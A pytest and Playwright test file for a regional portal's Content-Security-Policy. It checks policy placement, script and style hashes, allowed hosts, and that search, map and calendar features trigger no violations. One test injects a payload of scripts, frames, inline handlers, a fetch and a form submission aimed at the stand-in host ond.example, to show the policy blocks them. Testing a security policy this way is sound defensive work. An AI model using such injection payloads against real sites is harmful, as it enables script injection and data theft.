"""Every page says what may run on it and what it may fetch, and nothing that it has itself is stopped."""

import re
from collections.abc import Iterator
from contextlib import contextmanager

import pytest
from lxml.html import HtmlElement
from nettstedet import SIDESLAG, Nettsted, forste_av
from playwright.sync_api import Page, Route, expect

from regionportal.pages import csp, utenfor

FRIST = 30_000  # milliseconds that a busy machine may need
FLISVERT = csp.opprinnelse(utenfor.KARTFLISER)

# What is stopped comes to the console too, but from there one cannot tell what it was.
LYTT = """addEventListener('securitypolicyviolation', (e) =>
    (window.stoppet ??= []).push(`${e.effectiveDirective} ${e.blockedURI} ${e.sample}`.trim()));"""


def _regler(rot: HtmlElement) -> dict[str, list[str]]:
    (tekst,) = rot.xpath("//meta[@http-equiv='Content-Security-Policy']/@content")
    return {direktiv: kilder for direktiv, *kilder in (del_.split() for del_ in tekst.split(";"))}


# ---- as it is written


def test_regelen_star_for_alt_den_gjelder(ethvert: Nettsted):
    """Only the encoding comes before it."""
    begynnelse = re.compile(
        r'\s*<!doctype html>\s*<html [^>]*>\s*<head>\s*<meta charset="utf-8">'
        r'\s*<meta http-equiv="Content-Security-Policy"'
    )
    uten = [
        sti
        for sti, innhold in ethvert.filer.items()
        if sti.endswith((".html", ".htm", ".xhtml")) and not begynnelse.match(innhold.decode())
    ]
    assert uten == []


def test_hvert_skript_og_hver_stil_i_sida_er_den_som_er_tillatt(ethvert: Nettsted):
    for side, rot in ethvert.sider.items():
        regler = _regler(rot)
        skript = {csp.kjennemerke(en.text) for en in rot.iter("script") if en.get("type") != "application/ld+json"}
        stiler = {csp.kjennemerke(en.text) for en in rot.iter("style")}
        assert {en for en in regler["script-src"] if "sha256" in en} == skript, side
        assert {en for en in regler["style-src"] if "sha256" in en} == stiler, side


def test_bare_sider_med_kart_kan_sporre_en_annen_vert(ethvert: Nettsted):
    andre = {
        side: {en for kilder in _regler(rot).values() for en in kilder if not en.startswith("'")}
        for side, rot in ethvert.sider.items()
    }
    med_kart = {side for side, rot in ethvert.sider.items() if rot.xpath("//*[@data-fliser]")}
    assert {side: kilder for side, kilder in andre.items() if kilder} == {
        side: {FLISVERT, "data:"} for side in med_kart
    }
    assert med_kart


# ---- in the browser


@contextmanager
def _vokt(side: Page) -> Iterator[list[str]]:
    """All that went wrong on the pages visited meanwhile: what the policy stopped, and faults in the scripts."""
    feil: list[str] = []
    side.add_init_script(LYTT)
    side.on("console", lambda melding: feil.append(melding.text) if melding.type == "error" else None)
    side.on("pageerror", lambda arsak: feil.append(str(arsak)))
    yield feil
    feil += side.evaluate("window.stoppet ?? []")


@pytest.mark.parametrize("slag", SIDESLAG)
def test_ingen_side_spor_en_annen_vert_og_regelen_stopper_ingenting(
    side: Page, ekte_vert: str, nettsted: Nettsted, slag: str
):
    with _vokt(side) as feil:
        side.goto(ekte_vert + forste_av(nettsted, slag), wait_until="networkidle")
        assert (
            side.evaluate("getComputedStyle(document.querySelector('.topp')).backgroundColor") != "rgba(0, 0, 0, 0)"
        )  # the styles apply
    assert feil == []
    assert [bedt for bedt in side.bedt_om if not bedt.startswith((ekte_vert, "data:"))] == []


def test_regelen_stopper_ikke_soket(side: Page, vert: str):
    side.set_default_timeout(FRIST)
    with _vokt(side) as feil:
        side.goto(vert, wait_until="networkidle")
        side.keyboard.press("/")
        side.fill("#sok-felt", "barnehage")
        side.press("#sok-felt", "Enter")
        expect(side.locator(".sok-svar a").first).to_be_visible(timeout=FRIST)
    assert feil == []


def test_regelen_stopper_hverken_filteret_eller_kartet(side: Page, vert: str):
    side.set_default_timeout(FRIST)
    flis = side.request.get(f"{vert}delebilder/start.png").body()
    side.route(f"{FLISVERT}/**", lambda rute: rute.fulfill(body=flis, content_type="image/png"))
    with _vokt(side) as feil:
        side.goto(f"{vert}skatter/?kommune=ness", wait_until="networkidle")
        side.get_by_role("button", name="Åpne kartet").click()
        expect(side.locator(".leaflet-tile-loaded").first).to_be_visible(timeout=FRIST)
        side.locator(".leaflet-marker-icon").first.click()
        side.get_by_label("Kommune", exact=True).select_option("vik")
        side.get_by_role("button", name="Zoom inn", exact=True).click()  # tiles come and go
        side.get_by_role("button", name="Lukk kartet").click()
        side.wait_for_load_state("networkidle")
    assert feil == []


def test_regelen_stopper_ikke_kalenderfila_med_egen_flyttedag(side: Page, vert: str):
    with _vokt(side) as feil:
        side.goto(f"{vert}kommuner/ness/forste-90-dager/", wait_until="networkidle")
        side.get_by_label("Når flytter du?").fill("2027-01-04")
        with side.expect_download() as nedlasting:
            side.get_by_role("button", name="Legg det i kalenderen").click()
        assert nedlasting.value.suggested_filename.endswith(".ics")
    assert feil == []


ANGREP = """() => {
    const legg = (navn, felt) => document.body.append(Object.assign(document.createElement(navn), felt));
    legg('script', { textContent: 'window.kjorte = 1' });
    legg('script', { src: 'https://ond.example/x.js' });
    legg('style', { textContent: 'body { display: none }' });
    legg('link', { rel: 'stylesheet', href: 'https://ond.example/x.css' });
    legg('img', { src: 'https://ond.example/x.png' });
    legg('iframe', { src: 'https://ond.example/' });
    legg('object', { data: 'https://ond.example/' });
    legg('video', { src: 'https://ond.example/x.mp4' });
    legg('base', { href: 'https://ond.example/' });
    document.body.insertAdjacentHTML('beforeend', '<p style="position:fixed" id="lapp"></p>'
        + '<b id="knapp" onclick="window.kjorte = 1"></b><a id="lenke" href="javascript:window.kjorte = 1"></a>');
    document.getElementById('knapp').click();
    document.getElementById('lenke').click();
    fetch('https://ond.example/').catch(() => 0);
    setTimeout('window.kjorte = 1');
    legg('form', { action: 'https://ond.example/', id: 'skjema' });
    document.getElementById('skjema').submit();
}"""

# The directives that stopped something, when nothing more has been stopped for half a second.
STOPPET = """async () => {
    for (let for_ = -1; for_ !== (window.stoppet ?? []).length; ) {
        for_ = (window.stoppet ?? []).length;
        await new Promise((ferdig) => setTimeout(ferdig, 500));
    }
    return window.stoppet.map((en) => en.split(' ')[0]);
}"""


def test_regelen_biter(side: Page, vert: str):
    """What a hole in the sanitiser would let in, neither runs nor reaches anyone."""

    sendt: list[str] = []

    def ta_imot(rute: Route) -> None:
        sendt.append(rute.request.url)
        rute.abort()

    side.route("https://ond.example/**", ta_imot)
    with _vokt(side):
        side.goto(f"{vert}skatter/", wait_until="networkidle")
        side.evaluate(ANGREP)
        stoppet = side.evaluate(STOPPET)
    assert set(stoppet) == {
        "base-uri",
        "connect-src",
        "form-action",
        "frame-src",
        "img-src",
        "media-src",
        "object-src",
        "script-src",
        "script-src-attr",
        "script-src-elem",
        "style-src-attr",
        "style-src-elem",
    }
    assert side.evaluate(
        "[window.kjorte, getComputedStyle(document.body).display, getComputedStyle(lapp).position]"
    ) == [None, "block", "static"]
    assert sendt == []
